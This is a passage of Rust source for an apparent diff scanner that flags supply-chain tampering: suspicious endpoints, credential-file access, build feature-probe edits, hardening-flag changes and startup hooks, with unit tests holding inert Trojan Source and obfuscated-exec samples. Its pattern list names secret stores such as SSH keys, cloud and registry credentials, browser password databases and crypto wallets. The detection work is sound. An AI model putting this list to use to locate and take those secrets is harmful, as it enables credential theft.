        if let Some(p) = find(&lc, pat) {
            sink.push(HitKind::SuspiciousEndpoint, line, false, p, d);
            return;
        }
    }
    if let Some(p) = find(&lc, b".onion")
        && !is_ident(byte_at(&lc, p + 6))
        && p >= 16
    {
        sink.push(
            HitKind::SuspiciousEndpoint,
            line,
            false,
            p,
            "Tor .onion address",
        );
        return;
    }
    for p in memmem::find_iter(&lc, b"://").take(8) {
        let rest = tail(&lc, p + 3);
        let rest = match memchr::memchr(b'@', head(rest, 64)) {
            Some(a) if !head(rest, a).contains(&b'/') => tail(rest, a + 1),
            _ => rest,
        };
        let end = rest
            .iter()
            .position(|b| !(b.is_ascii_digit() || *b == b'.'))
            .unwrap_or(rest.len());
        let host = head(rest, end);
        let octets: Vec<&[u8]> = host.split(|b| *b == b'.').collect();
        if octets.len() != 4 || octets.iter().any(|o| o.is_empty() || o.len() > 3) {
            continue;
        }
        let v: Vec<u32> = octets
            .iter()
            .map(|o| o.iter().fold(0u32, |a, d| a * 10 + u32::from(d - b'0')))
            .collect();
        if v.iter().any(|x| *x > 255) {
            continue;
        }
        let (a, b, c) = (
            v.first().copied().unwrap_or(0),
            v.get(1).copied().unwrap_or(0),
            v.get(2).copied().unwrap_or(0),
        );
        let special = a == 127
            || a == 0
            || a == 10
            || a >= 224
            || (a == 192 && b == 168)
            || (a == 172 && (16..32).contains(&b))
            || (a == 169 && b == 254)
            || (a == 192 && b == 0 && c == 2)
            || (a == 198 && b == 51 && c == 100)
            || (a == 203 && b == 0 && c == 113);
        if !special {
            sink.push(
                HitKind::SuspiciousEndpoint,
                line,
                false,
                p,
                &format!("URL with raw public IP {}", lossy(host)),
            );
            return;
        }
    }
}

fn scan_credentials(sink: &mut Sink, line: &Line<'_>) {
    let lc = lower(line.text);
    let pats: &[(&[u8], &str)] = &[
        (b".ssh/id_", "SSH private key"),
        (b".ssh/authorized_keys", "SSH authorized_keys"),
        (b"id_rsa", "SSH private key"),
        (b"id_ed25519", "SSH private key"),
        (b".aws/credentials", "AWS credentials"),
        (b".pypirc", "PyPI credentials (.pypirc)"),
        (b".netrc", ".netrc credentials"),
        (b".git-credentials", "git credentials"),
        (b".docker/config.json", "Docker registry credentials"),
        (b".kube/config", "Kubernetes credentials"),
        (b".npmrc", "npm credentials"),
        (b"login data", "browser saved passwords"),
        (b"local storage/leveldb", "browser/Discord local storage"),
        (b"local state", "browser key store"),
        (b"cookies.sqlite", "browser cookies"),
        (b"wallet.dat", "crypto wallet"),
        (b"/etc/shadow", "/etc/shadow"),
        (b"login.keychain", "macOS keychain"),
    ];
    for (pat, d) in pats {
        if let Some(p) = find(&lc, pat) {
            sink.push(HitKind::CredentialAccess, line, false, p, d);
            return;
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Feature probes
// ---------------------------------------------------------------------------------------------

#[derive(Clone, Copy, PartialEq, Eq)]
enum ProbeSyntax {
    /// m4: `[`/`]` quote, parentheses count outside quotes.
    M4,
    /// CMake: `"` strings, `[[ ]]` bracket arguments, `#` comments.
    CMake,
    /// Meson and Python: quotes, triple quotes, `#` comments, all brackets count.
    Py,
}

struct Probe {
    start: u32,
    end: u32,
    name: String,
}

fn read_ident(text: &[u8], p: usize) -> &[u8] {
    let e = tail(text, p)
        .iter()
        .position(|b| !is_ident(*b))
        .map_or(text.len(), |e| p + e);
    text.get(p..e).unwrap_or(&[])
}

/// A probe call starting on this line: (offset of its `(`, probe name).
fn probe_start(text: &[u8], lang: Lang) -> Option<(usize, String)> {
    match lang {
        Lang::CMake => {
            let lc = lower(text);
            for pre in [&b"check_"[..], b"try_compile", b"try_run"] {
                for p in memmem::find_iter(&lc, pre) {
                    if p > 0 && is_ident(byte_at(&lc, p - 1)) {
                        continue;
                    }
                    let name = read_ident(&lc, p);
                    let a = skip_spaces(&lc, p + name.len());
                    if byte_at(&lc, a) == b'(' {
                        return Some((a, lossy(name)));
                    }
                }
            }
            None
        }
        Lang::Autotools => {
            for pre in [&b"AC_"[..], b"AX_"] {
                for p in memmem::find_iter(text, pre) {
                    if p > 0 && is_ident(byte_at(text, p - 1)) {
                        continue;
                    }
                    let name = read_ident(text, p);
                    let probe = name.ends_with(b"_IFELSE")
                        || name.starts_with(b"AC_CHECK_")
                        || name.starts_with(b"AC_TRY_")
                        || name.starts_with(b"AX_CHECK_")
                        || name.starts_with(b"AC_EGREP_")
                        || name == b"AC_CACHE_CHECK"
                        || name == b"AC_SEARCH_LIBS";
                    let a = p + name.len();
                    if probe && byte_at(text, a) == b'(' {
                        return Some((a, lossy(name)));
                    }
                }
            }
            None
        }
        Lang::Meson | Lang::Python => {
            // numpy.distutils / distutils `config` command probes.
            const PY_PROBES: &[&[u8]] = &[
                b"try_compile",
                b"try_link",
                b"try_run",
                b"try_cpp",
                b"try_dispatch",
                b"check_func",
                b"check_funcs_once",
                b"check_decl",
                b"check_macro_true",
                b"check_type",
                b"check_type_size",
                b"check_header",
                b"check_lib",
                b"check_inline",
                b"check_restrict",
                b"check_compiler_gcc",
                b"check_gcc_function_attribute",
                b"check_gcc_function_attribute_with_intrinsics",
                b"check_gcc_variable_attribute",
                b"check_gcc_version_at_least",
                b"has_function",
            ];
            const MESON: &[&[u8]] = &[
                b"compiles",
                b"links",
                b"run",
                b"has_function",
                b"has_header",
                b"check_header",
                b"has_header_symbol",
                b"has_argument",
                b"has_multi_arguments",
                b"get_supported_arguments",
                b"first_supported_argument",
                b"has_link_argument",
                b"has_multi_link_arguments",
                b"get_supported_link_arguments",
                b"has_members",
                b"has_member",
                b"has_type",
                b"sizeof",
                b"alignment",
                b"has_define",
                b"get_define",
                b"has_function_attribute",
                b"get_supported_function_attributes",
                b"compute_int",
            ];
            for p in memchr::memchr_iter(b'.', text) {
                let name = read_ident(text, p + 1);
                if name.is_empty() {
                    continue;
                }
                let a = skip_spaces(text, p + 1 + name.len());
                if byte_at(text, a) != b'(' {
                    continue;
                }
                let probe = if lang == Lang::Meson {
                    MESON.contains(&name)
                } else {
                    PY_PROBES.contains(&name)
                };
                if probe {
                    return Some((a, lossy(name)));
                }
            }
            None
        }
        _ => None,
    }
}

/// Line number where the call opened at (`i0`, `col`) closes (bounded by [`PROBE_MAX_LINES`]).
fn block_end(ls: &[(u32, &[u8])], i0: usize, col: usize, syn: ProbeSyntax) -> u32 {
    let mut depth = 0i32;
    let mut quote = 0i32;
    let mut in_str: Option<u8> = None;
    let mut triple: Option<u8> = None;
    let mut bracket = false;
    let mut last = ls.get(i0).map_or(0, |l| l.0);
    for (k, (no, text)) in ls
        .iter()
        .enumerate()
        .skip(i0)
        .take(PROBE_MAX_LINES as usize)
    {
        last = *no;
        let mut j = if k == i0 { col } else { 0 };
        in_str = if syn == ProbeSyntax::CMake {
            in_str
        } else {
            None
        };
        while j < text.len() {
            let b = byte_at(text, j);
            match syn {
                ProbeSyntax::M4 => match b {
                    b'[' => quote += 1,
                    b']' => quote = (quote - 1).max(0),
                    b'(' if quote == 0 => depth += 1,
                    b')' if quote == 0 => {
                        depth -= 1;
                        if depth <= 0 {
                            return *no;
                        }
                    }
                    _ => {}
                },
                ProbeSyntax::CMake => {
                    if bracket {
                        if b == b']' && matches!(byte_at(text, j + 1), b']' | b'=') {
                            bracket = false;
                        }
                    } else if in_str.is_some() {
                        if b == b'\\' {
                            j += 1;
                        } else if b == b'"' {
                            in_str = None;
                        }
                    } else {
                        match b {
                            b'#' => break,
                            b'"' => in_str = Some(b'"'),
                            b'[' if matches!(byte_at(text, j + 1), b'[' | b'=') => bracket = true,
                            b'(' => depth += 1,
                            b')' => {
                                depth -= 1;
                                if depth <= 0 {
                                    return *no;
                                }
                            }
                            _ => {}
                        }
                    }
                }
                ProbeSyntax::Py => {
                    if let Some(q) = triple {
                        if b == b'\\' {
                            j += 1;
                        } else if b == q && byte_at(text, j + 1) == q && byte_at(text, j + 2) == q {
                            triple = None;
                            j += 2;
                        }
                    } else if let Some(q) = in_str {
                        if b == b'\\' {
                            j += 1;
                        } else if b == q {
                            in_str = None;
                        }
                    } else {
                        match b {
                            b'#' => break,
                            b'\'' | b'"' => {
                                if byte_at(text, j + 1) == b && byte_at(text, j + 2) == b {
                                    triple = Some(b);
                                    j += 2;
                                } else {
                                    in_str = Some(b);
                                }
                            }
                            b'(' | b'[' | b'{' => depth += 1,
                            b')' | b']' | b'}' => {
                                depth -= 1;
                                if depth <= 0 {
                                    return *no;
                                }
                            }
                            _ => {}
                        }
                    }
                }
            }
            j += 1;
        }
    }
    last
}

/// Feature-probe calls of a build file with their line extents (bounded).
fn find_probes(data: &[u8], lang: Lang) -> Vec<Probe> {
    let syn = match lang {
        Lang::Autotools => ProbeSyntax::M4,
        Lang::CMake => ProbeSyntax::CMake,
        Lang::Meson | Lang::Python => ProbeSyntax::Py,
        _ => return Vec::new(),
    };
    let ls: Vec<(u32, &[u8])> = lines(head(data, MAX_STRUCTURE_BYTES)).collect();
    let mut out = Vec::new();
    let mut i = 0usize;
    while let Some((no, text)) = ls.get(i) {
        let t = trim(text);
        let comment = t.starts_with(b"#") || t.starts_with(b"dnl");
        if !comment && let Some((col, name)) = probe_start(text, lang) {
            let end = block_end(&ls, i, col, syn);
            out.push(Probe {
                start: *no,
                end,
                name,
            });
            if out.len() >= 4096 {
                break;
            }
            // Continue after the block (probes do not nest).
            let skip = end.saturating_sub(*no) as usize;
            i += skip.max(1);
            continue;
        }
        i += 1;
    }
    out
}

/// Map an old-file line to the new file through the hunks (sorted by `old_start`).
fn old_to_new(line: u32, hunks: &[Hunk], cum: &[i64]) -> u32 {
    let threshold = |h: &Hunk| h.old_start.saturating_add(h.old_len.max(1));
    let k = hunks.partition_point(|h| threshold(h) <= line);
    if let Some(h) = hunks.get(k)
        && h.old_len > 0
        && line >= h.old_start
        && line < h.old_start.saturating_add(h.old_len)
    {
        return h.new_start;
    }
    let delta = cum.get(k).copied().unwrap_or(0);
    u32::try_from((i64::from(line) + delta).max(0)).unwrap_or(u32::MAX)
}

/// Lines of `ls` (sorted by number, not moved) inside `[s, e]`.
fn changed_in<'a, 'b>(ls: &'b [Line<'a>], s: u32, e: u32) -> Vec<&'b Line<'a>> {
    let from = ls.partition_point(|l| l.no < s);
    ls.get(from..)
        .unwrap_or(&[])
        .iter()
        .take_while(|l| l.no <= e)
        .filter(|l| !l.moved)
        .collect()
}

fn is_stray_line(t: &[u8]) -> bool {
    matches!(
        trim(t),
        b"." | b"`" | b"@" | b"$" | b"\\" | b":" | b"'" | b"\""
    )
}

fn scan_probes(
    sink: &mut Sink,
    lang: Lang,
    old: &[u8],
    new: &[u8],
    hunks: &[Hunk],
    added: &[Line<'_>],
    removed: &[Line<'_>],
) {
    if added.iter().all(|l| l.moved) && removed.iter().all(|l| l.moved) {
        return;
    }
    let new_probes = if added.is_empty() {
        Vec::new()
    } else {
        find_probes(new, lang)
    };
    let old_probes = if removed.is_empty() {
        Vec::new()
    } else {
        find_probes(old, lang)
    };
    let mut sorted: Vec<Hunk> = hunks.iter().take(MAX_HUNKS).copied().collect();
    sorted.sort_by_key(|h| h.old_start);
    let mut cum = Vec::with_capacity(sorted.len() + 1);
    let mut acc = 0i64;
    cum.push(0);
    for h in &sorted {
        acc += i64::from(h.new_len) - i64::from(h.old_len);
        cum.push(acc);
    }
    // Old probes mapped into new-file coordinates, with their removed lines.
    let old_mapped: Vec<(u32, u32, &Probe, Vec<&Line<'_>>)> = old_probes
        .iter()
        .map(|p| {
            (
                old_to_new(p.start, &sorted, &cum),
                old_to_new(p.end, &sorted, &cum),
                p,
                changed_in(removed, p.start, p.end),
            )
        })
        .collect();
    let mut old_used = vec![false; old_mapped.len()];
    for p in &new_probes {
        let add = changed_in(added, p.start, p.end);
        let counterpart = old_mapped
            .iter()
            .position(|(s, e, _, _)| *s <= p.end && *e >= p.start);
        let rem: &[&Line<'_>] = match counterpart {
            Some(i) => {
                if let Some(u) = old_used.get_mut(i) {
                    *u = true;
                }
                old_mapped.get(i).map_or(&[], |o| o.3.as_slice())
            }
            None => &[],
        };
        if add.is_empty() && rem.is_empty() {
            continue;
        }
        let total = p.end.saturating_sub(p.start) as usize + 1;
        let state = if counterpart.is_none() && add.len() >= total {
            "probe added"
        } else if add.iter().any(|l| l.no > p.start) || rem.len() > 1 || p.start == p.end {
            "probe source changed"
        } else {
            "probe call line changed"
        };
        let stray = add
            .iter()
            .find(|l| is_stray_line(l.text))
            .map(|l| format!("; stray '{}' line in probe source", lossy(trim(l.text))))
            .unwrap_or_default();
        let d = format!(
            "{}: {state} (+{}/-{} lines){stray}",
            p.name,
            add.len(),
            rem.len()
        );
        match add.first() {
            Some(l) => sink.push(HitKind::FeatureProbeChanged, l, false, 0, &d),
            None => {
                if let Some(l) = rem.first() {
                    sink.push(HitKind::FeatureProbeChanged, l, true, 0, &d);
                }
            }
        }
    }
    for (i, (_, _, p, rem)) in old_mapped.iter().enumerate() {
        if old_used.get(i).copied().unwrap_or(true) || rem.is_empty() {
            continue;
        }
        let total = p.end.saturating_sub(p.start) as usize + 1;
        let state = if rem.len() >= total {
            "probe removed"
        } else {
            "probe source changed"
        };
        if let Some(l) = rem.first() {
            sink.push(
                HitKind::FeatureProbeChanged,
                l,
                true,
                0,
                &format!("{}: {state} (+0/-{} lines)", p.name, rem.len()),
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The scan
// ---------------------------------------------------------------------------------------------

fn file_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// The path's language, or the shebang's for extension-less scripts.
fn effective_lang(path: &str, new: &[u8], old: &[u8]) -> Lang {
    let lang = language(path);
    if lang != Lang::Other {
        return lang;
    }
    let src = if new.is_empty() { old } else { new };
    if !src.starts_with(b"#!") {
        return lang;
    }
    let first = head(
        src,
        memchr::memchr(b'\n', src).unwrap_or(src.len()).min(200),
    );
    if contains(first, b"python") {
        Lang::Python
    } else if contains(first, b"sh") {
        Lang::Shell
    } else {
        lang
    }
}

/// Which detectors apply to a file.
struct Plan {
    bidi: bool,
    zero_width: bool,
    entropy: bool,
    py: bool,
    py_build_or_import: bool,
    shell_exec: bool,
    fetch_exec: bool,
    build_net: bool,
    pth: bool,
    chook: bool,
    hardening: bool,
    sandbox: bool,
    pyproject: bool,
    setup_hooks: bool,
    setup_cfg: bool,
    build_hooks: bool,
    gitignore: bool,
    gitattributes: bool,
    test_disabled: bool,
    endpoint: bool,
    creds: bool,
    probes: bool,
    policy: bool,
}

fn plan(path: &str, class: PathClass, lang: Lang) -> Plan {
    let name = file_name(path);
    let lname = name.to_ascii_lowercase();
    let code = lang.is_code();
    let config = matches!(lang, Lang::Toml | Lang::Ini | Lang::Yaml);
    let py = lang.is_pythonish();
    let build = class.intersects(PathClass::BUILD_SYSTEM | PathClass::BUILD_TIME_CODE);
    let build_or_import = build || class.contains(PathClass::IMPORT_TIME);
    let is_pth = lname.ends_with(".pth");
    Plan {
        bidi: !(lname.ends_with(".po") || lname.ends_with(".pot")),
        zero_width: code || config || (lang == Lang::Other && !class.contains(PathClass::DOCS)),
        entropy: code && !class.contains(PathClass::GENERATED_OR_LOCK),
        py,
        py_build_or_import: py && build_or_import,
        shell_exec: code,
        fetch_exec: build_or_import
            || (py && !class.intersects(PathClass::CI | PathClass::TEST_PATH | PathClass::DOCS)),
        build_net: code && !py && lang != Lang::C && build,
        pth: is_pth && class.contains(PathClass::IMPORT_TIME),
        chook: matches!(lang, Lang::C | Lang::Cython),
        hardening: matches!(
            lang,
            Lang::CMake
                | Lang::Autotools
                | Lang::Make
                | Lang::Meson
                | Lang::Shell
                | Lang::WinScript
                | Lang::Toml
                | Lang::Ini
                | Lang::Yaml
                | Lang::C
        ) || (py && build),
        sandbox: code || config,
        pyproject: name == "pyproject.toml",
        setup_hooks: py && class.contains(PathClass::BUILD_TIME_CODE),
        setup_cfg: name == "setup.cfg",
        build_hooks: matches!(lang, Lang::Meson | Lang::CMake | Lang::Autotools),
        gitignore: name == ".gitignore",
        gitattributes: name == ".gitattributes",
        test_disabled: class
            .intersects(PathClass::CI | PathClass::BUILD_SYSTEM | PathClass::TEST_PATH)
            || matches!(lang, Lang::Shell | Lang::WinScript | Lang::Make),
        endpoint: (code || config || lang == Lang::Other)
            && !class.intersects(PathClass::IGNORE_RULES | PathClass::DOCS),
        creds: code,
        probes: matches!(lang, Lang::CMake | Lang::Autotools | Lang::Meson)
            || (lang == Lang::Python && build),
        policy: class.contains(PathClass::SECURITY_POLICY),
    }
}

/// Scan one text file change: the added lines (new-side hunk lines) and, where relevant, the
/// removed lines (old-side hunk lines). `old` is empty for an added file, `new` for a deleted
/// one; `hunks` are the changed regions (without context) in unified-diff numbering. Binary
/// files should not be passed (the scanner treats every byte as text).
pub fn scan_change(
    path: &str,
    class: PathClass,
    old: &[u8],
    new: &[u8],
    hunks: &[Hunk],
) -> Vec<ContentHit> {
    let new = head(new, MAX_FILE_BYTES);
    let old = head(old, MAX_FILE_BYTES);
    let lang = effective_lang(path, new, old);
    let p = plan(path, class, lang);
    let mut added = select_lines(new, &side_ranges(hunks, true));
    let mut removed = select_lines(old, &side_ranges(hunks, false));
    mark_moved(&mut added, &mut removed);
    let mut sink = Sink::new();

    let sections = if p.pyproject {
        let wanted: Vec<u32> = added.iter().map(|l| l.no).collect();
        toml_sections(new, &wanted)
    } else {
        Vec::new()
    };
    let mut cursor = PyCursor::new(new);
    let mut view: Vec<u8> = Vec::new();
    let mut flow = PyFlow::default();
    let mut block = Block::new();
    let mut prev: Option<&[u8]> = None;
    let mut harden: Vec<(String, bool, bool, Line<'_>, usize)> = Vec::new();

    for (idx, line) in added.iter().enumerate() {
        if line.moved {
            block.flush(&mut sink);
            prev = Some(line.text);
            continue;
        }
        let text = line.text;
        if !text.is_ascii() && p.bidi {
            scan_unicode(&mut sink, line, p.zero_width, p.zero_width, p.py);
        }
        if p.entropy {
            scan_entropy(&mut sink, line);
            block.feed(&mut sink, line, prev);
        }
        prev = Some(text);
        let g = triggers(text);
        if g == 0 {
            continue;
        }
        if p.py && g & (G_DECODE | G_EXEC | G_PROC | G_NET | G_HOOK | G_CRED) != 0 {
            let st = cursor.state_at(line.no);
            py_scan(text, st, Some(&mut view));
            if g & (G_DECODE | G_EXEC | G_NET) != 0 {
                scan_py_decode_exec(&mut sink, &mut flow, line, &view);
            }
            if g & (G_NET | G_CRED) != 0 {
                scan_py_env_exfil(&mut sink, &mut flow, line, &view);
            }
            if g & G_EXEC != 0 {
                scan_py_dynamic(&mut sink, line, &view, class);
            }
            if p.py_build_or_import && g & (G_PROC | G_NET) != 0 {
                scan_py_process(&mut sink, line, &view);
            }
            if p.setup_hooks && g & G_HOOK != 0 {
                scan_setup_hooks(&mut sink, line, &view);
            }
        }
        if p.shell_exec
            && g & G_SHELL != 0
            && let Some((fetch, d)) = shell_decode_exec(text)
            && (!fetch || p.fetch_exec)
        {
            sink.push(HitKind::DecodeExec, line, false, 0, &d);
        }
        if p.build_net && g & G_NET != 0 {
            scan_build_network(&mut sink, line, lang);
        }
        if p.pth {
            let t = trim(text);
            if t.starts_with(b"import ") || t.starts_with(b"import\t") {
                sink.push(
                    HitKind::StartupHook,
                    line,
                    false,
                    0,
                    "import line in .pth runs at every interpreter start",
                );
            }
        }
        if p.chook && g & G_CHOOK != 0 {
            scan_c_hooks(&mut sink, line, lang == Lang::Cython);
        }
        if p.hardening && g & G_HARDEN != 0 {
            for (f, weak, pos) in hardening_flags(text, lang) {
                harden.push((f, weak, false, *line, pos));
            }
        }
        if p.sandbox
            && g & G_SANDBOX != 0
            && let Some((pos, term)) = sandbox_term(text)
        {
            sink.push(
                HitKind::SandboxChanged,
                line,
                false,
                pos,
                &format!("{term} added"),
            );
        }
        if g & G_HOOK != 0 {
            if p.pyproject {
                let sec = sections.get(idx).map_or("", String::as_str);
                scan_pyproject_line(&mut sink, line, sec);
            }
            if p.setup_cfg {
                let t = trim(text);
                if t.starts_with(b"cmdclass") {
                    sink.push(
                        HitKind::BuildHookAdded,
                        line,
                        false,
                        0,
                        "setup.cfg cmdclass",
                    );
                }
            }
            if p.build_hooks {
                scan_build_file_hooks(&mut sink, line, lang);
            }
        }
        if p.test_disabled && g & G_TESTDIS != 0 {
            scan_test_disabled(&mut sink, line, lang, class);
        }
        let wants_endpoint = p.endpoint && g & G_ENDPOINT != 0;
        let wants_creds = p.creds && g & G_CRED != 0;
        if (wants_endpoint || wants_creds) && !(p.py && py_prose(&mut cursor, line)) {
            if wants_endpoint {
                scan_endpoint(&mut sink, line);
            }
            if wants_creds {
                scan_credentials(&mut sink, line);
            }
        }
    }
    block.flush(&mut sink);

    // Line rules without keywords.
    if p.gitignore || p.gitattributes {
        for line in added.iter().filter(|l| !l.moved) {
            if p.gitignore {
                scan_gitignore_line(&mut sink, line, path);
            } else {
                scan_gitattributes_line(&mut sink, line);
            }
        }
    }

    // Removed lines: sandboxing and hardening flags.
    if p.sandbox || p.hardening {
        for line in removed.iter().filter(|l| !l.moved) {
            let g = triggers(line.text);
            if p.sandbox
                && g & G_SANDBOX != 0
                && let Some((pos, term)) = sandbox_term(line.text)
            {
                sink.push(
                    HitKind::SandboxChanged,
                    line,
                    true,
                    pos,
                    &format!("{term} removed"),
                );
            }
            if p.hardening && g & G_HARDEN != 0 {
                for (f, weak, pos) in hardening_flags(line.text, lang) {
                    harden.push((f, weak, true, *line, pos));
                }
            }
        }
    }
    report_hardening(&mut sink, &harden);

    if p.probes {
        scan_probes(&mut sink, lang, old, new, hunks, &added, &removed);
    }
    if p.policy {
        scan_security_policy(&mut sink, &added, &removed, old);
    }
    sink.finish()
}

/// A Python line that is prose: a comment, a doctest, or inside a docstring.
fn py_prose(cursor: &mut PyCursor<'_>, line: &Line<'_>) -> bool {
    let t = trim(line.text);
    t.starts_with(b"#") || t.starts_with(b">>>") || cursor.state_at(line.no) != PyState::Code
}

/// Net each flag over the file: report flags added more often than removed (or vice versa).
fn report_hardening(sink: &mut Sink, flags: &[(String, bool, bool, Line<'_>, usize)]) {
    use std::collections::HashMap;
    // flag -> (weakens, first added, first removed, added count, removed count), in first-seen order.
    type Net<'a, 'l> = (
        bool,
        Option<&'a (String, bool, bool, Line<'l>, usize)>,
        Option<&'a (String, bool, bool, Line<'l>, usize)>,
        usize,
        usize,
    );
    let mut order: Vec<&str> = Vec::new();
    let mut net: HashMap<&str, Net<'_, '_>> = HashMap::new();
    for f in flags {
        let e = net.entry(f.0.as_str()).or_insert_with(|| {
            order.push(f.0.as_str());
            (f.1, None, None, 0, 0)
        });
        if f.2 {
            e.2.get_or_insert(f);
            e.4 += 1;
        } else {
            e.1.get_or_insert(f);
            e.3 += 1;
        }
    }
    for name in order {
        let Some(&(weak, add, rem, na, nr)) = net.get(name) else {
            continue;
        };
        let (first, removed) = match na.cmp(&nr) {
            std::cmp::Ordering::Greater => (add, false),
            std::cmp::Ordering::Less => (rem, true),
            std::cmp::Ordering::Equal => continue,
        };
        let Some((_, _, _, line, pos)) = first else {
            continue;
        };
        let weakened = weak != removed;
        let d = format!(
            "{}: {name} {}",
            if weakened { "weakened" } else { "strengthened" },
            if removed { "removed" } else { "added" }
        );
        sink.push(HitKind::HardeningFlagChanged, line, removed, *pos, &d);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::classify::classify;

    /// Hunks for `old` → `new` with one changed region (common prefix and suffix kept).
    fn one_hunk(old: &str, new: &str) -> Vec<Hunk> {
        let a: Vec<&str> = old.lines().collect();
        let b: Vec<&str> = new.lines().collect();
        let pre = a.iter().zip(&b).take_while(|(x, y)| x == y).count();
        let max_suf = a.len().min(b.len()) - pre;
        let suf = a
            .iter()
            .rev()
            .zip(b.iter().rev())
            .take(max_suf)
            .take_while(|(x, y)| x == y)
            .count();
        let (ol, nl) = (a.len() - pre - suf, b.len() - pre - suf);
        if ol == 0 && nl == 0 {
            return Vec::new();
        }
        let start = |len: usize| if len == 0 { pre as u32 } else { pre as u32 + 1 };
        vec![Hunk {
            old_start: start(ol),
            old_len: ol as u32,
            new_start: start(nl),
            new_len: nl as u32,
        }]
    }

    fn change(path: &str, old: &str, new: &str) -> Vec<ContentHit> {
        scan_change(
            path,
            classify(path),
            old.as_bytes(),
            new.as_bytes(),
            &one_hunk(old, new),
        )
    }

    fn added(path: &str, new: &str) -> Vec<ContentHit> {
        change(path, "", new)
    }

    fn has(hits: &[ContentHit], kind: HitKind) -> bool {
        hits.iter().any(|h| h.kind == kind)
    }

    fn hit(hits: &[ContentHit], kind: HitKind) -> &ContentHit {
        let found = hits.iter().find(|h| h.kind == kind);
        assert!(found.is_some(), "no {kind:?} in {hits:#?}");
        found.unwrap_or_else(|| unreachable!())
    }

    /// Deterministic pseudo-random base64 text.
    fn random_b64(n: usize, seed: u64) -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut x = seed;
        (0..n)
            .map(|_| {
                x = x
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                char::from(A.get(((x >> 33) % 64) as usize).copied().unwrap_or(b'A'))
            })
            .collect()
    }

    fn random_hex(n: usize, seed: u64) -> String {
        random_b64(n * 2, seed)
            .bytes()
            .map(|b| {
                char::from(
                    b"0123456789abcdef"
                        .get(usize::from(b % 16))
                        .copied()
                        .unwrap_or(b'0'),
                )
            })
            .take(n)
            .collect()
    }

    #[test]
    fn keyword_automaton_builds() {
        assert!(keywords().is_some());
        assert_ne!(triggers(b"exec(code)") & G_EXEC, 0);
        assert_eq!(triggers(b"x = 1"), 0);
    }

    #[test]
    fn kind_names() {
        for k in HitKind::ALL {
            assert!(!k.as_str().is_empty() && !k.description().is_empty());
            assert!(
                k.as_str()
                    .bytes()
                    .all(|b| b.is_ascii_lowercase() || b == b'-')
            );
        }
        assert_eq!(HitKind::DecodeExec.as_str(), "decode-exec");
    }

    // --- Unicode -------------------------------------------------------------------------

    #[test]
    fn trojan_source_bidi_in_python_comment() {
        let src = "def is_admin(user):\n    # check \u{202E} } \u{2066}if user.admin:\u{2069} \u{2066}\n    return user.ok\n";
        let h = added("pkg/auth.py", src);
        let b = hit(&h, HitKind::Bidi);
        assert_eq!(b.line, 2);
        assert!(b.excerpt.contains("<U+202E>"), "{}", b.excerpt);
        assert!(
            b.detail.contains("RLO") && b.detail.contains("unterminated"),
            "{}",
            b.detail
        );
    }

    #[test]
    fn bidi_not_reported_for_translations_or_plain_unicode() {
        assert!(added("po/ar.po", "msgstr \"\u{202B}مرحبا\u{202C}\"\n").is_empty());
        assert!(added("pkg/names.py", "name = 'Erdős Pál'  # café\n").is_empty());
    }

    #[test]
    fn zero_width_in_identifier() {
        let h = added("pkg/m.py", "is\u{200B}_admin = True\n");
        assert!(hit(&h, HitKind::ZeroWidth).excerpt.contains("<U+200B>"));
        // Emoji ZWJ sequences and a leading BOM are benign; prose files are not checked.
        assert!(added("pkg/e.py", "FAMILY = \"👨\u{200D}👩\u{200D}👧\"\n").is_empty());
        assert!(added("pkg/bom.py", "\u{FEFF}import os\n").is_empty());
        assert!(added("docs/x.md", "word\u{200B}word\n").is_empty());
    }

    #[test]
    fn mixed_script_identifier() {
        // Cyrillic 'а' (U+0430) inside a Latin identifier.
        let h = added("pkg/m.py", "p\u{0430}th = '/tmp'\n");
        assert!(has(&h, HitKind::MixedScriptIdentifier));
        assert!(added("pkg/m.py", "# Привет, world\nσx = 1.0\n").is_empty());
    }

    #[test]
    fn nfkc_folded_identifiers_in_python() {
        // Fullwidth "exec" is the builtin exec to Python.
        let h = added("pkg/m.py", "\u{FF45}\u{FF58}\u{FF45}\u{FF43}(payload)\n");
        assert!(
            hit(&h, HitKind::MixedScriptIdentifier)
                .detail
                .contains("NFKC")
        );
        // Fullwidth punctuation in CJK comments is not an identifier.
        assert!(added("pkg/m.py", "x = 1  # 注释，说明：完成\n").is_empty());
    }

    // --- High-entropy literals -------------------------------------------------------------

    #[test]
    fn long_base64_literal_in_code() {
        let src = format!("PAYLOAD = \"{}\"\n", random_b64(400, 7));
        let h = added("pkg/_data.py", &src);
        let e = hit(&h, HitKind::HighEntropyLiteral);
        assert!(e.detail.starts_with("base64 run of 400"), "{}", e.detail);
        assert!(e.excerpt.chars().count() <= MAX_EXCERPT_CHARS);
    }

    #[test]
    fn digests_data_files_and_locks_are_quiet() {
        let sha256 = random_hex(64, 1);
        let sha512 = random_hex(128, 2);
        assert!(
            added(
                "pkg/hashes.py",
                &format!("H = '{sha256}'\nG = '{sha512}'\n")
            )
            .is_empty()
        );
        let list: String = (0..8)
            .map(|i| format!("    \"{}\",\n", random_hex(64, i)))
            .collect();
        assert!(added("pkg/tests/test_sha.py", &format!("VECTORS = [\n{list}]\n")).is_empty());
        let img = format!(
            "<image href=\"data:image/png;base64,{}\"/>\n",
            random_b64(3000, 3)
        );
        assert!(added("doc/logo.svg", &img).is_empty());
        assert!(
            added(
                "doc/nb.ipynb",
                &format!("{{\"image/png\": \"{}\"}}\n", random_b64(3000, 4))
            )
            .is_empty()
        );
        let lock = format!(
            "hash = \"sha256:{sha256}\"\nblob = \"{}\"\n",
            random_b64(300, 5)
        );
        assert!(added("uv.lock", &lock).is_empty());
    }

    #[test]
    fn base64_block_over_lines() {
        let body: String = (0..8)
            .map(|i| format!("    \"{}\"\n", random_b64(76, 10 + i)))
            .collect();
        let h = added("setup.py", &format!("blob = (\n{body})\n"));
        let e = hit(&h, HitKind::HighEntropyLiteral);
        assert_eq!(e.line, 2);
        assert!(e.detail.contains("block of 8 lines"), "{}", e.detail);
        let pem: String = (0..6)
            .map(|i| format!("{}\n", random_b64(64, 20 + i)))
            .collect();
        let h = added(
            "pkg/cert.py",
            &format!(
